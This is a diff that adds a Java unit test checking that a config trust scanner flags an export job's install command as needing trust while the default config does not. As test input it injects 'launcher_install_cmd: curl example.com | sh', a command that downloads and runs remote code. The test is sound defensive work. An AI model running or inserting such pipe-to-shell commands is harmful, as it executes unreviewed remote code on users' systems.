@@ -61,6 +61,23 @@ class TrustCheckTest {
     }
 
     @Test
+    void theExportJobsOwnInstallCommandNeedsTrustAndTheDefaultDoesNot() throws Exception {
+        String exporting = BASE.replace("  output_dir: /lustre/evals\n", """
+                  output_dir: /lustre/evals
+                  auto_export:
+                    destinations: [local]
+                """) + "export:\n  local:\n    output_dir: /lustre/exported\n";
+        assertThat(find(exporting)).isEmpty();
+        List<Finding> f = find(exporting.replace("    destinations: [local]\n",
+                "    destinations: [local]\n    launcher_install_cmd: curl example.com | sh\n"));
+        assertThat(f).singleElement().satisfies(x -> {
+            assertThat(x.kind()).isEqualTo(Kind.COMMAND);
+            assertThat(x.key()).isEqualTo("execution.auto_export.launcher_install_cmd");
+            assertThat(x.origin().line()).isEqualTo(12);
+        });
+    }
+
+    @Test
     void anAuxiliaryDeploymentsPreCmdNeedsTrust() throws Exception {
         List<Finding> f = find(BASE.replace("  - _self_", "  - deployment/vllm@auxiliary_deployments.judge\n  - _self_") + """
                 auxiliary_deployments:
